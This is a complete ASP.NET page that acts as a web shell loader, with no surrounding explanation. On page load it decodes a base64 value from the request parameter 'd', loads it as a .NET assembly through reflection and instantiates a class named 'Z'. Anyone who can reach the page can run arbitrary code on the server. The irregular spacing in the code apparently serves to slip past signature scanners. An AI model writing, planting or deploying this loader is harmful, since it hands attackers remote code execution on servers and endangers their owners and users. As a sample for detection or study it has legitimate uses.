<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    var bytes = Convert
        .FromBase64String(
            Request [ "d" ]
        );
    System.Reflection.Assembly
        . Load ( bytes )
        . CreateInstance ( "Z" );
}
</script>
